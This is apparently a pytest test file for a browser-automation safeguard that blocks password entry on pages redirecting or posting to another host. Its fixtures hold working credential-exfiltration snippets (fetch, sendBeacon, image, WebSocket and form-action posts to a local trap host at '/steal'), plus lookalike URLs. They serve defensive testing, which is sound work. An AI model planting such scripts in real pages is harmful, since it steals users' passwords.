"""A person's password is typed into the target's own page, or not at all."""

import contextlib
import socket

import pytest

from conformance.actors import callback
from conformance.actors import visitor as browsers
from conformance.actors.pages import LoginPage
from conformance.actors.visitor import Visitor, launched
from conformance.errors import Blocked, Unsupported
from conformance.instance import Credentials
from conformance.instance.reach import Reach

pytestmark = pytest.mark.xdist_group("fence")
USER = Credentials("owner@example.com", "s3cret-of-0wner")
FORM = (
    '<!doctype html><div id="user-auth-form"><form method="post" {form}>'
    '<input id="email" name="email"><input id="password" name="password">'
    '<button type="submit" {button}>Log in</button></form></div>{script}'
)
SENDING = """<script>document.forms[0].onsubmit = async (event) => {{
  event.preventDefault();
  const password = document.querySelector("#password").value;
  try {{ {do} }} catch {{ }}
  location = "/";
}}</script>"""
BACK = SENDING.format(do="")


@pytest.fixture(scope="module")
def browser():
    try:
        with launched() as started:
            yield started
    except Unsupported as reason:
        pytest.skip(str(reason))


@pytest.fixture
def site(answering):
    """The target: answers by method and path, any other path is home."""
    answers = {}

    def answer(request):
        key = f"{request.command} {request.path.partition('?')[0]}"
        status, headers, body = answers.get(key, page("<h1>Home</h1>"))
        return status, headers, body.encode()

    with answering(answer) as server:
        server.answers = answers
        yield server


@pytest.fixture
def visit(browser, site, monkeypatch):
    """Open a window on the target; a function."""
    monkeypatch.setattr(browsers, "PATIENCE_MS", 1_000.0)
    monkeypatch.setattr(browsers, "TIMEOUT_MS", 5_000.0)
    with contextlib.ExitStack() as stack:

        def visitor(url="", reach=None):
            person = Visitor(browser, url or site.url, reach)
            stack.callback(person.close)
            return person

        yield visitor


def page(body, status=200, **headers):
    return status, {"Content-Type": "text/html", **headers}, body


def form(form="", button="", script=BACK):
    return page(FORM.format(form=form, button=button, script=script))


def log_in(visitor):
    login = LoginPage(visitor)
    login.open()
    login.log_in(USER)


AWAY = {
    "redirection": lambda url: page("", 302, Location=f"{url}/login"),
    "redirection that keeps the method": lambda url: page(
        "", 307, Location=f"{url}/login"
    ),
    "refresh": lambda url: page(
        f'<meta http-equiv="refresh" content="0;url={url}/login">'
    ),
    "script": lambda url: page(f"<script>location='{url}/login'</script>"),
    "action": lambda url: form(form=f'action="{url}/steal"', script=""),
    "button": lambda url: form(button=f'formaction="{url}/x"', script=""),
    "action set in the end": lambda url: form(
        script="<script>document.forms[0].onsubmit = (event) => "
        f"event.target.action = '{url}/steal'</script>"
    ),
}


@pytest.mark.parametrize("how", AWAY)
def test_login_that_leads_to_another_host(visit, site, trap, how):
    away = f"http://localhost:{trap.port}"
    site.answers["GET /login"] = AWAY[how](away)
    with pytest.raises(Blocked) as told:
        log_in(visit())
    assert away in str(told.value)
    assert f"not at the target {site.url}" in str(told.value)
    assert trap.heard == []


ALIKE = {
    "another port": "http://127.0.0.1:{port}",
    "another name": "http://localhost:{port}",
    "the target for a user": "http://{target}@127.0.0.1:{port}",
    "the target as a label": "http://{host}.localhost:{port}",
    "another scheme": "https://127.0.0.1:{port}",
    "another family": "http://[::1]:{port}",
}


@pytest.mark.parametrize("url", ALIKE.values(), ids=ALIKE)
def test_address_that_looks_like_the_targets(visit, site, trap, url):
    target = site.url.removeprefix("http://")
    url = url.format(
        port=trap.port, target=target, host=target.partition(":")[0]
    )
    site.answers["GET /login"] = page("", 302, Location=f"{url}/login")
    with pytest.raises(Blocked, match="nothing was typed"):
        log_in(visit())
    assert trap.heard == []


SENT = {
    "fetch": "await fetch('{url}/', {{method: 'POST', body: password}})",
    "beacon": "navigator.sendBeacon('{url}/', password)",
    "image": "new Image().src = '{url}/?' + password",
    "websocket": "new WebSocket('{url}/'.replace('http', 'ws') + password)",
    "frame": "document.body.innerHTML += '<iframe src={url}/>'",
    "redirection": "await fetch('/on', {{method: 'POST', body: password}})",
}


@pytest.mark.parametrize("do", SENT.values(), ids=SENT)
def test_script_that_sends_the_password_on(visit, site, trap, do):
    """The page is the target's own, so that it is typed; it stays here."""
    away = f"http://127.0.0.1:{trap.port}"
    script = f'<script src="{away}/a.js"></script>'
    script += SENDING.format(do=do.format(url=away))
    site.answers["GET /login"] = form(script=script)
    site.answers["POST /on"] = page("", 307, Location=f"{away}/steal")
    visitor = visit()
    log_in(visitor)
    visitor.page.wait_for_timeout(300)
    assert visitor.path == "/"
    assert {away} <= {
        browsers.origin(r.url).replace("ws:", "http:")
        for r in visitor.elsewhere
    }
    assert trap.heard == []


def test_without_the_fence_the_trap_would_have_it(browser, site, trap):
    away = f"http://127.0.0.1:{trap.port}"
    site.answers["GET /login"] = form(form=f'action="{away}/"', script="")
    context = browser.new_context()
    opened = context.new_page()
    opened.goto(f"{site.url}/login")
    opened.fill("#password", USER.password)
    opened.click("button")
    opened.wait_for_timeout(300)
    context.close()
    assert any(USER.password.encode() in heard for heard in trap.heard)


def test_callback_of_the_app_is_reached(visit, site):
    with callback.listening() as app:
        site.answers["GET /on"] = page("", 302, Location=f"{app.url}?code=x")
        visitor = visit()
        visitor.page.goto("/on")
        assert app.visits == [{"code": ["x"]}]
        assert visitor.elsewhere == []
    assert set() == callback.LISTENING


@pytest.mark.parametrize("name", ["bücher.example", "fít.test", "plain.test"])
def test_name_that_no_resolver_knows(visit, site, name):
    ascii_name = name.encode("idna").decode()
    url = f"http://{ascii_name}:{site.server_port}"
    site.answers["GET /login"] = form()
    visitor = visit(url, Reach("127.0.0.1"))
    log_in(visitor)
    assert visitor.page.url == f"{url}/"


def test_dead_target_is_blocked(visit):
    with socket.create_server(("127.0.0.1", 0)) as free:
        port = free.getsockname()[1]
    with pytest.raises(Blocked, match="expected a page; actual: "):
        LoginPage(visit(f"http://127.0.0.1:{port}")).open()
